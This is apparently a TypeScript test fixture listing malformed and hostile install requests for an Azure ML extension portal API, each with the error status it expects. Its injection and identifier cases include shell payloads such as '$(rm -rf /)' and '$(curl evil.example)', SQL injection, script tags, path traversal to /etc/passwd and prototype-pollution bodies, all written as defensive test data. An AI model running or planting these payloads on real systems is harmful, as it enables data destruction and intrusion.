/**
 * Malformed and hostile install requests, each with the answer the portal must give: a clear
 * 4xx, and for 422 the field (`key`) the message is about. Shared by the API tests
 * (plan-api.test.ts) and the wizard's end-to-end subset. Certificates are generated at run time.
 */
import { generate } from 'selfsigned';

import { HOSTILE_SETTING_KEYS } from '@/lib/domain/fixtures/hostile-setting-keys';
import { makeEncryptedKey, makePemPair, makeUnrelatedKey } from '@/lib/domain/fixtures/test-pems';

const PROD = '6f1c2a4e-8b3d-4c57-9a2e-1d0b5c7e9f31';
const EDGE = '3a7e5b90-1f2d-4c8e-b6a4-9d0c1e2f3a4b';
/** A 4-node AKS cluster with nothing installed. */
export const AKS_CLUSTER = `/subscriptions/${PROD}/resourceGroups/rg-ml-prod-westeurope/providers/Microsoft.ContainerService/managedClusters/aks-prod-westeurope`;
/** An Arc cluster with nothing installed. */
export const ARC_CLUSTER = `/subscriptions/${EDGE}/resourceGroups/rg-edge-factory/providers/Microsoft.Kubernetes/connectedClusters/arc-openshift-factory`;

/** One case of the corpus. */
export interface BadInputCase {
  name: string;
  /** A JSON value to send, or `{ raw }`: the exact body text. */
  body: unknown;
  status: 400 | 413 | 422 | 404;
  /** For 422: the key of (one of) the field messages. */
  key?: string;
  /** A protected value too short for the PEM probe that the answer must not contain anywhere. */
  secret?: string;
}

/** The exact text to send instead of JSON-encoding `body`. */
export interface RawBody {
  raw: string;
}

export const isRawBody = (body: unknown): body is RawBody => typeof body === 'object' && body !== null && 'raw' in body && typeof (body as RawBody).raw === 'string';

const DAY_MS = 86_400_000;

/** A valid HTTP-only training + inference request; cases change one thing. */
export function validRequest(over: Record<string, unknown> = {}, settings: Record<string, string> = {}, protectedSettings: Record<string, string> = {}) {
  return {
    clusterId: AKS_CLUSTER,
    name: 'azureml',
    configurationSettings: { enableTraining: 'True', enableInference: 'True', inferenceRouterServiceType: 'loadBalancer', allowInsecureConnections: 'True', ...settings },
    configurationProtectedSettings: protectedSettings,
    ...over,
  };
}

/** An HTTPS request with the given PEMs for `ml.contoso.com`. */
function httpsRequest(cert: string, key: string, cname = 'ml.contoso.com') {
  return {
    clusterId: AKS_CLUSTER,
    name: 'azureml',
    configurationSettings: { enableTraining: 'True', enableInference: 'True', inferenceRouterServiceType: 'loadBalancer', sslCname: cname },
    configurationProtectedSettings: { sslCertPemFile: cert, sslKeyPemFile: key },
  };
}

/** Only training, with `settings` replacing the settings map: for key look-alike cases. */
const trainingWith = (settings: Record<string, string>) => ({ clusterId: AKS_CLUSTER, name: 'azureml', configurationSettings: settings, configurationProtectedSettings: {} });

const truncate = (pem: string) => pem.slice(0, Math.floor(pem.length / 2));

function bodyCases(): BadInputCase[] {
  return [
    { name: 'not JSON', body: { raw: 'clusterId=x&name=y' }, status: 400 },
    { name: 'truncated JSON', body: { raw: '{"clusterId": "/subscriptions/' }, status: 400 },
    { name: 'empty body', body: { raw: '' }, status: 400 },
    { name: 'JSON array as the body', body: [], status: 422, key: 'body' },
    { name: 'JSON string as the body', body: 'azureml', status: 422, key: 'body' },
    { name: 'JSON null as the body', body: null, status: 422, key: 'body' },
    { name: 'body over 256 KiB', body: validRequest({}, { filler: 'x'.repeat(300 * 1024) }), status: 413 },
    { name: 'one setting value over 128 KiB', body: validRequest({}, { sslCname: 'a'.repeat(128 * 1024 + 1) }), status: 422, key: 'configurationSettings.sslCname' },
    { name: 'more than 200 settings', body: validRequest({}, Object.fromEntries(Array.from({ length: 201 }, (_, i) => [`custom${i}`, 'x']))), status: 422, key: 'configurationSettings' },
    { name: 'setting key of 257 characters', body: validRequest({}, { ['k'.repeat(257)]: 'x' }), status: 422, key: `configurationSettings.${'k'.repeat(257)}` },
    { name: 'empty setting key', body: validRequest({}, { '': 'x' }), status: 422, key: 'configurationSettings.' },
  ];
}

function typeCases(): BadInputCase[] {
  return [
    { name: 'clusterId is a number', body: validRequest({ clusterId: 42 }), status: 422, key: 'clusterId' },
    { name: 'clusterId is an array of strings', body: validRequest({ clusterId: [AKS_CLUSTER] }), status: 422, key: 'clusterId' },
    { name: 'name is null', body: validRequest({ name: null }), status: 422, key: 'name' },
    { name: 'name is an object', body: validRequest({ name: { toString: 'azureml' } }), status: 422, key: 'name' },
    { name: 'configurationSettings is an array', body: validRequest({ configurationSettings: [['enableTraining', 'True']] }), status: 422, key: 'configurationSettings' },
    { name: 'configurationSettings is a string', body: validRequest({ configurationSettings: 'enableTraining=True' }), status: 422, key: 'configurationSettings' },
    { name: 'setting value is a boolean', body: validRequest({ configurationSettings: { enableTraining: true } }), status: 422, key: 'configurationSettings.enableTraining' },
    { name: 'setting value is an array', body: validRequest({ configurationSettings: { enableTraining: ['True'] } }), status: 422, key: 'configurationSettings.enableTraining' },
    { name: 'setting value is a number', body: validRequest({ configurationSettings: { enableTraining: 1 } }), status: 422, key: 'configurationSettings.enableTraining' },
    { name: 'protected setting is an object', body: validRequest({ configurationProtectedSettings: { sslKeyPemFile: { pem: 'x' } } }), status: 422, key: 'configurationProtectedSettings.sslKeyPemFile' },
    { name: 'autoUpgradeMinorVersion is the string "false"', body: validRequest({ autoUpgradeMinorVersion: 'false' }), status: 422, key: 'autoUpgradeMinorVersion' },
    { name: 'version is a number', body: validRequest({ version: 1.1, autoUpgradeMinorVersion: false }), status: 422, key: 'version' },
    { name: '__proto__ body smuggling a cluster', body: { raw: `{"__proto__": {"clusterId": "${AKS_CLUSTER}", "name": "azureml"}, "configurationSettings": {"enableTraining": "True"}}` }, status: 422, key: 'clusterId' },
    { name: '__proto__ as a setting key', body: { raw: JSON.stringify(trainingWith({ enableTraining: 'False' })).replace('"enableTraining"', '"__proto__":{"enableTraining":"True"},"enableTraining"') }, status: 422, key: 'enableTraining' },
    { name: 'constructor as the settings map', body: validRequest({ configurationSettings: { constructor: { prototype: { enableTraining: 'True' } } } }), status: 422, key: 'configurationSettings.constructor' },
  ];
}

function injectionCases(): BadInputCase[] {
  return [
    { name: 'shell substitution as the name', body: validRequest({ name: '$(rm -rf /)' }), status: 422, key: 'name' },
    { name: 'SQL injection as the name', body: validRequest({ name: "azureml'; DROP TABLE extensions;--" }), status: 422, key: 'name' },
    { name: 'script tag as the name', body: validRequest({ name: '<script>alert(1)</script>' }), status: 422, key: 'name' },
    { name: 'path traversal as the cluster id', body: validRequest({ clusterId: '../../../../etc/passwd' }), status: 422, key: 'clusterId' },
    // Well-formed ids whose last segment is hostile: ARM has no such cluster, and says so.
    { name: 'script tag in the cluster id', body: validRequest({ clusterId: `${AKS_CLUSTER}<script>` }), status: 404 },
    { name: 'shell substitution as sslCname', body: validRequest({}, { allowInsecureConnections: 'False', sslSecret: 'tls', sslCname: '$(curl evil.example)' }), status: 422, key: 'sslCname' },
    { name: 'SQL injection as the service type', body: validRequest({}, { inferenceRouterServiceType: "'; DROP TABLE x;--" }), status: 422, key: 'inferenceRouterServiceType' },
    { name: 'release namespace kube-system', body: validRequest({ releaseNamespace: 'kube-system' }), status: 422, key: 'releaseNamespace' },
    { name: 'namespace scope', body: validRequest({ scope: 'namespace' }), status: 422, key: 'scope' },
    { name: 'NUL byte in the name', body: validRequest({ name: 'azure\u0000ml' }), status: 422, key: 'name' },
    { name: 'NUL byte in the cluster id', body: validRequest({ clusterId: `${AKS_CLUSTER}\u0000` }), status: 404 },
    { name: 'NUL byte in a boolean value', body: trainingWith({ enableTraining: 'True\u0000' }), status: 422, key: 'enableTraining' },
    { name: 'right-to-left override in the name', body: validRequest({ name: 'azureml\u202egpj.exe' }), status: 422, key: 'name' },
  ];
}

function lookAlikeCases(): BadInputCase[] {
  return [
    { name: 'Cyrillic е in enableTraining', body: trainingWith({ '\u0435nableTraining': 'True' }), status: 422, key: 'enableTraining' },
    { name: 'fullwidth enableTraining', body: trainingWith({ 'ｅｎａｂｌｅＴｒａｉｎｉｎｇ': 'True' }), status: 422, key: 'enableTraining' },
    // Format and control characters cannot be in a key at all: refused at the key itself.
    { name: 'zero-width joiner inside enableTraining', body: trainingWith({ 'enable\u200dTraining': 'True' }), status: 422, key: 'configurationSettings.enable\u200dTraining' },
    { name: 'NUL byte after enableTraining', body: trainingWith({ 'enableTraining\u0000': 'True' }), status: 422, key: 'configurationSettings.enableTraining\u0000' },
    { name: 'Cyrillic о in allowInsecureConnections', body: validRequest({ configurationSettings: { enableInference: 'True', inferenceRouterServiceType: 'loadBalancer', 'allowInsecureC\u043ennections': 'True' } }), status: 422, key: 'allowInsecureConnections' },
    { name: 'case typo InferenceRouterHA', body: validRequest({}, { InferenceRouterHA: 'False' }), status: 422, key: 'InferenceRouterHA' },
  ];
}

function ruleCases(): BadInputCase[] {
  return [
    { name: 'boolean setting "yes"', body: trainingWith({ enableTraining: 'yes' }), status: 422, key: 'enableTraining' },
    { name: 'neither training nor inference', body: trainingWith({ enableTraining: 'False', enableInference: 'False' }), status: 422, key: 'enableTraining' },
    { name: 'empty extension name', body: validRequest({ name: '' }), status: 422, key: 'name' },
    { name: 'extension name of 254 characters', body: validRequest({ name: 'a'.repeat(254) }), status: 422, key: 'name' },
    { name: 'extension name with spaces', body: validRequest({ name: 'azure ml' }), status: 422, key: 'name' },
    { name: 'version pinned with auto-upgrade on', body: validRequest({ version: '1.1.64', autoUpgradeMinorVersion: true }), status: 422, key: 'autoUpgradeMinorVersion' },
    { name: 'nodePort with an internal load balancer', body: validRequest({}, { inferenceRouterServiceType: 'nodePort', internalLoadBalancerProvider: 'azure' }), status: 422, key: 'internalLoadBalancerProvider' },
    { name: 'Arc with an internal load balancer', body: validRequest({ clusterId: ARC_CLUSTER }, { internalLoadBalancerProvider: 'azure' }), status: 422, key: 'internalLoadBalancerProvider' },
    { name: 'internal load balancer provider aws', body: validRequest({}, { internalLoadBalancerProvider: 'aws' }), status: 422, key: 'internalLoadBalancerProvider' },
    { name: 'blank sslSecret', body: validRequest({}, { allowInsecureConnections: 'False', sslSecret: '  ', sslCname: 'ml.contoso.com' }), status: 422, key: 'sslSecret' },
    { name: 'node selector with an empty label', body: trainingWith({ enableTraining: 'True', 'nodeSelector.': 'gpu' }), status: 422, key: 'nodeSelector.' },
    { name: 'node selector label with spaces and !', body: trainingWith({ enableTraining: 'True', 'nodeSelector.bad key!': 'gpu' }), status: 422, key: 'configurationSettings.nodeSelector.bad key!' },
    { name: 'node selector value with a leading hyphen', body: trainingWith({ enableTraining: 'True', 'nodeSelector.pool': '-gpu-' }), status: 422, key: 'nodeSelector.pool' },
    { name: 'node selector in the wrong case', body: trainingWith({ enableTraining: 'True', 'NodeSelector.pool': 'gpu' }), status: 422, key: 'NodeSelector.pool' },
    { name: 'cluster id of a storage account', body: validRequest({ clusterId: `/subscriptions/${PROD}/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/sa` }), status: 422, key: 'clusterId' },
    { name: 'unknown cluster', body: validRequest({ clusterId: AKS_CLUSTER.replace('aks-prod-westeurope', 'aks-does-not-exist') }), status: 404 },
    { name: 'unknown subscription', body: validRequest({ clusterId: AKS_CLUSTER.replace(PROD, '00000000-0000-4000-8000-000000000000') }), status: 404 },
    { name: 'unknown resource group', body: validRequest({ clusterId: AKS_CLUSTER.replace('rg-ml-prod-westeurope', 'rg-nope') }), status: 404 },
  ];
}

async function pemCases(): Promise<BadInputCase[]> {
  const good = await makePemPair({ cn: 'ml.contoso.com' });
  const other = await makePemPair({ cn: 'other.contoso.com' });
  const expired = await makePemPair({ cn: 'ml.contoso.com', notBefore: new Date(Date.now() - 400 * DAY_MS), notAfter: new Date(Date.now() - DAY_MS) });
  // A CA that is not the leaf's: sent first, as a chain pasted in the wrong order would be.
  const ca = await generate([{ name: 'commonName', value: 'Contoso Root CA' }], { keyType: 'ec', algorithm: 'sha256', extensions: [{ name: 'basicConstraints', cA: true }] });
  return [
    { name: 'truncated certificate', body: httpsRequest(truncate(good.cert), good.key), status: 422, key: 'sslCertPemFile' },
    { name: 'truncated private key', body: httpsRequest(good.cert, truncate(good.key)), status: 422, key: 'sslKeyPemFile' },
    { name: 'chain in the wrong order (CA first)', body: httpsRequest(`${ca.cert}${good.cert}`, good.key), status: 422, key: 'sslCertPemFile' },
    { name: 'key of a different certificate', body: httpsRequest(good.cert, other.key), status: 422, key: 'sslKeyPemFile' },
    { name: 'unrelated key', body: httpsRequest(good.cert, makeUnrelatedKey()), status: 422, key: 'sslKeyPemFile' },
    { name: 'passphrase-protected key', body: httpsRequest(good.cert, makeEncryptedKey()), status: 422, key: 'sslKeyPemFile' },
    { name: 'expired certificate', body: httpsRequest(expired.cert, expired.key), status: 422, key: 'sslCertPemFile' },
    { name: 'sslCname not covered by the certificate', body: httpsRequest(good.cert, good.key, 'api.fabrikam.com'), status: 422, key: 'sslCname' },
    { name: 'key pasted where the certificate goes', body: httpsRequest(good.key, good.key), status: 422, key: 'sslCertPemFile' },
    { name: 'certificate without a key', body: { ...httpsRequest(good.cert, ''), configurationProtectedSettings: { sslCertPemFile: good.cert } }, status: 422, key: 'sslKeyPemFile' },
    { name: 'PEM as a plain (unprotected) setting', body: validRequest({}, { sslCertPemFile: good.cert }), status: 422, key: 'sslCertPemFile' },
    { name: 'non-ASCII look-alike inside the certificate', body: httpsRequest(good.cert.replace('-----BEGIN CERTIFICATE-----', '-----BEGIN CЕRTIFICATE-----'), good.key), status: 422, key: 'sslCertPemFile' },
  ];
}

/** Issue 13, item 4: keys no Helm setting can have, in either map, refused at the key itself. */
function hostileKeyCases(): BadInputCase[] {
  return (['configurationSettings', 'configurationProtectedSettings'] as const).flatMap((map) =>
    HOSTILE_SETTING_KEYS.map((key) => ({
      name: `hostile key ${JSON.stringify(key.length > 40 ? `${key.slice(0, 40)}...` : key)} in ${map}`,
      body: { ...validRequest(), [map]: { ...validRequest()[map], [key]: 'v' } },
      status: 422 as const,
      key: `${map}.${key}`,
    })),
  );
}

/** Issue 13, item 4: names, release trains and versions that are not. */
function identifierCases(): BadInputCase[] {
  const names = ['-', '.', '..', 'a..b', '-azureml', 'azureml-', '.azureml'];
  const trains = ['-stable', 'stable; rm -rf /', '../preview', 'sta ble', 's'.repeat(65)];
  const versions = ['1.2', 'latest', 'v1.2.3', '$(id)', '1.2.3-'];
  return [
    ...names.map((name) => ({ name: `extension name ${JSON.stringify(name)}`, body: validRequest({ name }), status: 422 as const, key: 'name' })),
    ...trains.map((releaseTrain) => ({ name: `release train ${JSON.stringify(releaseTrain.slice(0, 20))}`, body: validRequest({ releaseTrain }), status: 422 as const, key: 'releaseTrain' })),
    ...versions.map((version) => ({ name: `version ${JSON.stringify(version)}`, body: validRequest({ version, autoUpgradeMinorVersion: false }), status: 422 as const, key: 'version' })),
  ];
}

/** Issue 13, item 3: a value given as protected is refused without being repeated. */
function protectedValueCases(): BadInputCase[] {
  const secret = 'SECRETVALUE42';
  const http = { enableTraining: 'True', enableInference: 'True', inferenceRouterServiceType: 'loadBalancer', allowInsecureConnections: 'True' };
  // The key is given only as protected (dropped from the plain map), so its value rules run on it.
  const withProtected = (key: string, settings: Record<string, string> = http, value = secret) => ({
    clusterId: AKS_CLUSTER,
    name: 'azureml',
    configurationSettings: Object.fromEntries(Object.entries(settings).filter(([plain]) => plain !== key)),
    configurationProtectedSettings: { [key]: value },
  });
  const https = { ...http, allowInsecureConnections: 'False', sslSecret: 'azureml-tls', sslCname: 'ml.contoso.com' };
  return [
    { name: 'protected enableInference not a boolean', body: withProtected('enableInference'), status: 422, key: 'enableInference', secret },
    { name: 'protected inferenceRouterServiceType not a type', body: withProtected('inferenceRouterServiceType'), status: 422, key: 'inferenceRouterServiceType', secret },
    { name: 'protected sslCname not a host name', body: withProtected('sslCname', https, `${secret}!`), status: 422, key: 'sslCname', secret },
    { name: 'protected internalLoadBalancerProvider not azure', body: withProtected('internalLoadBalancerProvider'), status: 422, key: 'internalLoadBalancerProvider', secret },
  ];
}

/** The whole corpus (at least 50 cases). */
export async function buildCorpus(): Promise<BadInputCase[]> {
  return [
    ...bodyCases(),
    ...typeCases(),
    ...injectionCases(),
    ...lookAlikeCases(),
    ...ruleCases(),
    ...hostileKeyCases(),
    ...identifierCases(),
    ...protectedValueCases(),
    ...(await pemCases()),
  ];
}
